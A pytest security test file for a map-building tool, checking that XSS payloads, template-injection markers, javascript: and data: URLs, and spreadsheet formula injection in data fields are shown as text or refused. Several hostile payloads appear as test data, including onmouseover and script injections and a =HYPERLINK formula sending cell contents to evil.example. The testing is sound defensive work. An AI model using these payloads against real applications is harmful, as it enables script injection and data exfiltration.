"""Hostile text: markup and script in attributes and catalog titles show as text, never run.

Every text field of every layer and table is filled with payloads that would
run if any of them reached the page as HTML or broke out of an inline script.
The map is then opened in real Chromium, every popup and tooltip is opened,
and the page must show the payloads as plain text with nothing executed.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import kzgeo

from conftest import screenshot, settle
from hostile import HOSTILE_ID, assert_refused, cli, payload, poison_data, poison_titles, read_table, set_cell, validate, write_table


ALL_POPUPS_JS = """() => {
  const map = Object.keys(window).filter(k => k.startsWith('map_')).map(k => window[k])[0];
  const layers = [];
  map.eachLayer(l => { if (l.feature && l.feature.id !== undefined && l.feature.properties._popup) layers.push(l); });
  const out = {};
  for (const l of layers) {
    map.closePopup();
    map.kzPicker.open(l, l.getLatLng ? l.getLatLng() : l.getBounds().getCenter());
    const popup = map._popup.getElement().querySelector('.leaflet-popup-content');
    popup.querySelectorAll('details').forEach(d => { d.open = true; });
    let tooltip = '';
    if (l.getTooltip && l.getTooltip()) { l.openTooltip(); tooltip = l.getTooltip().getElement().innerText; l.closeTooltip(); }
    out[l.feature.id] = {popup: popup.innerText, tooltip: tooltip};
  }
  return out;
}"""

INJECTED_JS = """() => Array.from(document.querySelectorAll('*')).filter(e =>
  Array.from(e.attributes).some(a => a.name.startsWith('on')) || (e.tagName === 'IMG' && e.getAttribute('src') === 'x')
).map(e => e.outerHTML.slice(0, 120))"""


def _open(page, path: Path) -> dict:
    """Opens the map, every popup and tooltip; checks nothing ran; returns what they showed."""
    page.goto(path.as_uri())
    page.wait_for_function("document.querySelectorAll('.leaflet-interactive').length > 0")
    seen = page.evaluate(ALL_POPUPS_JS)
    page.mouse.move(640, 430)
    settle(page)
    assert page.errors == []
    assert page.evaluate(INJECTED_JS) == []
    assert page.evaluate("window.__pwned") is None
    return seen


def _build(layers: Path, out: Path) -> Path:
    assert kzgeo.validate(layers) == []
    (path,) = [p for p in kzgeo.build(layers, out, maps_dir=out) if p.name == "overview.html"]
    return path


@pytest.fixture
def poisoned_map(layers_dir, tmp_path) -> Path:
    poison_data(layers_dir)
    return _build(layers_dir, tmp_path / "maps")


def test_hostile_text_renders_as_text_in_chromium(poisoned_map, offline_page):
    seen = _open(offline_page, poisoned_map)
    screenshot(offline_page, "hostile-text.png")
    assert {"upper-kairakty", "north-katpar", HOSTILE_ID, "aktau", "beyneu", "alat", "kz-beyneu-aktau", "casp-aktau-alat"} <= set(seen)
    # The payloads are shown as text, character for character.
    # (the English page names a feature in English only: its card leads with one name)
    for fid, field in [("upper-kairakty", "deposits.name_en"), ("upper-kairakty", "deposits.region"), ("upper-kairakty", "sources.title"), ("casp-aktau-alat", "corridors.geometry_note")]:
        assert payload(field) in seen[fid]["popup"], (fid, field)
    assert payload("deposits.name_en") in seen[HOSTILE_ID]["tooltip"]
    assert "${7*7} {7*7}" in seen["aktau"]["popup"] and "49" not in seen["aktau"]["popup"]


def test_hostile_catalog_titles_render_as_text_in_chromium(layers_dir, tmp_path, offline_page):
    """The map title and layer names (legend, layer switcher) come from the catalog."""
    poison_titles(layers_dir)
    _open(offline_page, _build(layers_dir, tmp_path / "maps"))
    assert payload("title").split(" \u2028")[0] in offline_page.inner_text("body")


@pytest.mark.parametrize("marker", ["{{ 7*7 }}", "{% raw %}", "{# note #}"])
def test_template_markers_in_data_are_refused(layers_dir, marker):
    """folium/branca pass generated script through Jinja again: "{{" in data would be evaluated."""
    set_cell(layers_dir / "nodes.csv", "aktau", "location_note", f"Town {marker} centre")
    assert_refused(validate(layers_dir), 'Error: nodes.csv: row 2 (id "aktau"): field location_note: ', f"{marker[:2]!r} is a template marker")


def test_template_markers_in_catalog_are_refused(layers_dir):
    path = layers_dir / "catalog.toml"
    path.write_text(path.read_text(encoding="utf-8").replace('title = "Transport corridors"', 'title = "Corridors {{ 7*7 }}"'), encoding="utf-8")
    assert_refused(validate(layers_dir), "Error: catalog.toml [layers.corridors.title]: '{{' is a template marker")


def _edited_in_python(layers: Path, out: Path) -> str:
    data = kzgeo.read_layers(layers)
    frame = data.layers["nodes"]
    frame.loc[frame["id"] == "aktau", "location_note"] = "A{{ 7*7 }}B"
    return kzgeo.render_map(data).get_root().render()


def _title_in_python(layers: Path, out: Path) -> str:
    """A map spec refuses "{{" with a clean error (test_hostile_schema.py); Python callers can still pass one."""
    return kzgeo.render_map(kzgeo.read_layers(layers), title="A{{ 7*7 }}B").get_root().render()


@pytest.mark.parametrize("route", [_edited_in_python, _title_in_python], ids=["dataset edited in Python", "map title in Python"])
def test_template_marker_reaching_the_renderer_is_not_evaluated(layers_dir, tmp_path, route):
    """The page renders each element's template once, so "{{" in a value stays text."""
    page = route(layers_dir, tmp_path / "maps")
    assert "A49B" not in page
    assert "A{{ 7*7 }}B" in page


def test_analyst_supplied_javascript_url_is_never_a_link(layers_dir, tmp_path, offline_page):
    """A Dataset changed in Python skips the CSV checks; the popup still links only http(s)."""
    data = kzgeo.read_layers(layers_dir)
    sources = data.tables["sources"]
    sources.loc[sources["id"] == "src-a", "url"] = "javascript:window.__pwned='url'"
    sources.loc[sources["id"] == "src-b", "url"] = " JaVaScRiPt:window.__pwned='url2'"
    out = tmp_path / "analyst.html"
    out.write_text(kzgeo.render_map(data).get_root().render(), encoding="utf-8")
    page = offline_page
    page.goto(out.as_uri())
    page.wait_for_function("document.querySelectorAll('.leaflet-interactive').length > 0")
    seen = page.evaluate(ALL_POPUPS_JS)
    assert "Tungsten deal announced" in seen["upper-kairakty"]["popup"]
    assert page.evaluate("Array.from(document.querySelectorAll('a[href]')).map(a => a.getAttribute('href')).filter(h => /script:/i.test(h))") == []
    for link in page.locator(".leaflet-popup-content a").all():
        link.click(force=True)
    assert page.evaluate("window.__pwned") is None and page.errors == []


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://example.org/\" onmouseover=\"alert(1)",
        "https://example.org/'onmouseover='alert(1)",
        "https://example.org/<script>alert(1)</script>",
        "https://example.org/`alert(1)`",
        "//example.org/no-scheme",
        "https://exa mple.org/",
    ],
)
def test_source_link_that_is_not_http_is_refused(layers_dir, url):
    set_cell(layers_dir / "sources.csv", "src-a", "url", url)
    line = assert_refused(validate(layers_dir), 'Error: sources.csv: row 2 (id "src-a"): field url: ', "is not an http(s) address")
    assert "Traceback" not in line


def test_markup_in_source_text_is_accepted_as_text(layers_dir):
    """Hostile text is not refused: it is data like any other, and escaped where shown."""
    rows = read_table(layers_dir / "sources.csv")
    rows[1][rows[0].index("title")] = payload("sources.title")
    write_table(layers_dir / "sources.csv", rows)
    data = kzgeo.read_layers(layers_dir)
    assert data.cited("src-a")[0]["title"] == payload("sources.title").strip()


def test_report_csv_does_not_carry_spreadsheet_formulas(layers_dir, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    set_cell(layers_dir / "deposits.csv", "upper-kairakty", "name_en", formula)
    result = cli("report", "--layers", layers_dir, "--format", "csv", "--out", tmp_path / "report", "--within", "5000")
    assert result.exit_code == 0, result.output
    text = "".join(p.read_text(encoding="utf-8") for p in sorted((tmp_path / "report").glob("*.csv")))
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
    # The name shows in the deposits table and in the near table, never as a formula.
    assert len(cells) >= 2 and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
